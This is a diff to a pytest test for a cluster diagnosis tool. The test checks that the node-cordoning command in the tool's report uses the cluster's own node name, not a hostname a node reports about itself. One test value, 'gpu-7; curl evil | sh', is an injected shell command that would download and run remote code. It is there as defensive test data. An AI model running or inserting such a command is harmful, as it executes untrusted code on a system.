@@ -115,10 +115,24 @@ def test_events_before_a_restart_are_dropped(tmp_path: Path) -> None:
     assert other.concluded(trial()).verdict.status == "PASS"
 
 
-def test_the_report_has_the_command_to_cordon(tmp_path: Path) -> None:
-    found = Heard(tmp_path, node_lost("lost")).concluded(trial())
+@pytest.mark.parametrize("under_mpi", [False, True])
+@pytest.mark.parametrize("claimed", ["gpu-1", "gpu-7", "gpu-7; curl evil | sh"])
+def test_the_report_has_the_command_to_cordon(claimed: str, under_mpi: bool, tmp_path: Path) -> None:
+    """A person copies it, so it names a node of the cluster, and not what a host calls itself."""
+    stream = node_lost("lost")
+    for event in stream.events:
+        if event["kind"] == "node" and event["node"] == 1:
+            event["hostname"] = claimed
+    heard = Heard(tmp_path, stream)
+    index = "batch.kubernetes.io/job-completion-index"
+    pods = [pod(f"t-{n}", spec__nodeName=f"gpu-{n}", metadata__labels={index: str(n)}) for n in range(2)]
+    heard.run_log.take_pods(pods_of({"items": pods}, KINDS["job"]))
+    job = trial()
+    found = heard.concluded(replace(job, detail=replace(job.detail, under_mpi=under_mpi)))
     assert found.verdict.exit_code == 1
-    assert "to keep other work off gpu-1: oc cordon gpu-1" in [finding.what for finding in found.findings]
+    told = [finding.what for finding in found.findings if "cordon" in finding.what]
+    expected = ["to keep other work off gpu-1: oc cordon gpu-1"]
+    assert told == ([] if under_mpi and claimed != "gpu-1" else expected)
 
 
 @pytest.mark.parametrize("count", [2, 3])
